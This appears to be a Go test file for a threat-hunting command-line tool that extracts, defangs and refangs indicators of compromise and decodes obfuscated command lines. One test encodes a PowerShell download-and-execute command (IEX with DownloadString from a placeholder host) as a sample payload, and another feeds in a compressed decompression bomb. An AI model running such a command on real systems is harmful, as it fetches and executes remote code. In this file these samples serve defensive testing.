package ioccmd

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/spf13/cobra"

	"github.com/huntkit/huntkit/internal/cliapp"
)

// run executes "ioc ..." or "decode ..." and returns stdout, stderr and the exit code.
func run(t *testing.T, stdin string, args ...string) (string, string, int) {
	t.Helper()
	var out, errb bytes.Buffer
	app := &cliapp.App{In: strings.NewReader(stdin), Out: &out, Err: &errb}
	defer app.Close()
	root := &cobra.Command{Use: "huntkit", SilenceUsage: true, SilenceErrors: true}
	root.SetOut(&out)
	root.SetErr(&errb)
	for _, c := range New(app) {
		root.AddCommand(c)
	}
	root.SetArgs(args)
	err := root.ExecuteContext(context.Background())
	if err != nil {
		errb.WriteString("huntkit: " + cliapp.Message(err) + "\n")
	}
	return out.String(), errb.String(), cliapp.ExitCode(err)
}

func records(t *testing.T, s string) []map[string]any {
	t.Helper()
	var out []map[string]any
	for _, l := range strings.Split(strings.TrimSpace(s), "\n") {
		if l == "" {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal([]byte(l), &m); err != nil {
			t.Fatalf("bad ndjson line %q: %v", l, err)
		}
		out = append(out, m)
	}
	return out
}

func TestExtractStdin(t *testing.T) {
	in := "line one 8.8.8.8\nC2 hxxps://evil[.]com/a from 10.0.0.5\nagain 8.8.8.8\n"
	out, errs, code := run(t, in, "ioc", "extract", "-", "-o", "ndjson")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	recs := records(t, out)
	var got []string
	for _, r := range recs {
		got = append(got, r["IoCType"].(string)+" "+r["Observable"].(string)+" "+r["Scope"].(string)+" "+fmt.Sprint(r["Line"]))
	}
	want := "ipv4 8.8.8.8 public 1|url https://evil.com/a  2|dns evil.com  2|ipv4 10.0.0.5 private 2"
	if strings.Join(got, "|") != want {
		t.Errorf("got %q\nwant %q", strings.Join(got, "|"), want)
	}
	// --all lists the repeat; --types filters
	out, _, _ = run(t, in, "ioc", "extract", "--all", "--types", "ipv4", "--no-private", "-o", "ndjson")
	if n := len(records(t, out)); n != 2 {
		t.Errorf("--all --types ipv4 --no-private: %d rows", n)
	}
	_, errs, code = run(t, in, "ioc", "extract", "--types", "ipv5")
	if code != 2 || !strings.Contains(errs, "ipv5") {
		t.Errorf("bad type: exit %d, %s", code, errs)
	}
}

func TestExtractFileAndColumn(t *testing.T) {
	dir := t.TempDir()
	txt := filepath.Join(dir, "r.txt")
	os.WriteFile(txt, []byte("see evil.com and bob@corp.example.org"), 0o644)
	out, errs, code := run(t, "", "ioc", "extract", txt, "-o", "csv")
	if code != 0 || !strings.Contains(out, "dns,evil.com") || !strings.Contains(out, "email,bob@corp.example.org") || strings.Contains(out, "dns,corp.example.org") {
		t.Errorf("file: exit %d %s\n%s", code, errs, out)
	}
	csv := filepath.Join(dir, "e.csv")
	os.WriteFile(csv, []byte("id,CommandLine\n1,ping 8.8.8.8\n2,nslookup evil.com\n3,nothing here\n"), 0o644)
	out, errs, code = run(t, "", "ioc", "extract", "--in", csv, "--column", "CommandLine", "-o", "ndjson")
	if code != 0 {
		t.Fatalf("column: exit %d %s", code, errs)
	}
	recs := records(t, out)
	if len(recs) != 2 || recs[0]["Observable"] != "8.8.8.8" || recs[1]["SourceIndex"].(float64) != 1 || recs[1]["Input"] != "nslookup evil.com" {
		t.Errorf("column rows: %v", recs)
	}
	_, errs, code = run(t, "", "ioc", "extract", "--in", csv, "--column", "Nope")
	if code != 2 || !strings.Contains(errs, "Nope") {
		t.Errorf("missing column: exit %d %s", code, errs)
	}
	_, _, code = run(t, "", "ioc", "extract", "--in", csv)
	if code != 2 {
		t.Errorf("--in without --column: exit %d", code)
	}
}

func TestRefangDefang(t *testing.T) {
	out, _, code := run(t, "", "ioc", "refang", "hxxps://evil[.]com/a", "1[.]2[.]3[.]4")
	if code != 0 || out != "https://evil.com/a 1.2.3.4\n" {
		t.Errorf("refang = %q (%d)", out, code)
	}
	out, _, _ = run(t, "mail bob@evil.com at https://evil.com/x\n", "ioc", "defang", "-")
	if out != "mail bob[@]evil[.]com at hxxps[://]evil[.]com/x\n" {
		t.Errorf("defang = %q", out)
	}
	out, _, _ = run(t, "", "ioc", "defang", "--type", "dns", "a.evil.com")
	if out != "a[.]evil[.]com\n" {
		t.Errorf("defang --type = %q", out)
	}
}

func TestDecodeCommand(t *testing.T) {
	payload := base64.StdEncoding.EncodeToString([]byte("IEX (New-Object Net.WebClient).DownloadString('http://x.example.com/a')"))
	out, errs, code := run(t, "powershell -enc "+payload+"\n", "decode", "-", "--text")
	if code != 0 || !strings.Contains(out, "powershell -enc <decoded type='string' name='[base64]' index='1' depth='1'>IEX (New-Object") {
		t.Errorf("decode --text: exit %d %s\n%s", code, errs, out)
	}
	out, _, code = run(t, "powershell -enc "+payload+"\n", "decode", "-o", "ndjson")
	recs := records(t, out)
	if code != 0 || len(recs) != 1 || recs[0]["encoding_type"] != "base64" || len(recs[0]["sha256"].(string)) != 64 {
		t.Errorf("decode ndjson: %v", recs)
	}
	dir := t.TempDir()
	csv := filepath.Join(dir, "p.csv")
	os.WriteFile(csv, []byte("CommandLine\n\"powershell -enc "+payload+"\"\nplain\n"), 0o644)
	out, errs, code = run(t, "", "decode", "--in", csv, "--column", "CommandLine", "-o", "ndjson")
	recs = records(t, out)
	if code != 0 || len(recs) != 1 || recs[0]["src_index"].(float64) != 0 {
		t.Errorf("decode column: exit %d %s %v", code, errs, recs)
	}
	// --text over a column prints each row that held a payload, with its row number.
	out, errs, code = run(t, "", "decode", "--in", csv, "--column", "CommandLine", "--text")
	if code != 0 || !strings.HasPrefix(out, "row 0: powershell -enc <decoded type='string'") || strings.Count(out, "\n") != 1 {
		t.Errorf("decode column --text: exit %d %s\n%s", code, errs, out)
	}
}

func TestDecodeBombExitCode(t *testing.T) {
	var buf bytes.Buffer
	gzBomb(&buf)
	in := "x " + base64.StdEncoding.EncodeToString(buf.Bytes()) + "\n"
	out, errs, code := run(t, in, "decode", "-", "-o", "csv")
	if code != 1 || !strings.Contains(errs, "ratio") || !strings.Contains(out, "reference") {
		t.Errorf("bomb: exit %d\nstderr %s\nstdout %.300s", code, errs, out)
	}
}

func TestUnknownSubcommandIsUsageError(t *testing.T) {
	for _, args := range [][]string{{"ioc", "bogus"}, {"ioc", "extarct", "x.txt"}} {
		if _, errs, code := run(t, "", args...); code != 2 || !strings.Contains(errs, "unknown command") {
			t.Errorf("%v: exit %d, stderr %q; want 2 and unknown command", args, code, errs)
		}
	}
}

// Windows PowerShell 5 writes UTF-16LE with a BOM ("> iocs.txt"): its text is read, not
// silently yielding nothing. A UTF-8 BOM is dropped.
func TestExtractUTF16Input(t *testing.T) {
	text := "C2 hxxp://evil[.]example[.]com/a\r\nfrom 185.220.101.45\r\n"
	u := utf16.Encode([]rune(text))
	le := []byte{0xFF, 0xFE}
	be := []byte{0xFE, 0xFF}
	for _, c := range u {
		le = append(le, byte(c), byte(c>>8))
		be = append(be, byte(c>>8), byte(c))
	}
	for name, in := range map[string][]byte{"utf-16le": le, "utf-16be": be, "utf-8 bom": append([]byte{0xEF, 0xBB, 0xBF}, text...)} {
		out, errs, code := run(t, string(in), "ioc", "extract", "-", "-o", "csv")
		if code != 0 || !strings.Contains(out, "url,http://evil.example.com/a") || !strings.Contains(out, "ipv4,185.220.101.45") {
			t.Errorf("%s: exit %d\n%s%s", name, code, out, errs)
		}
	}
}
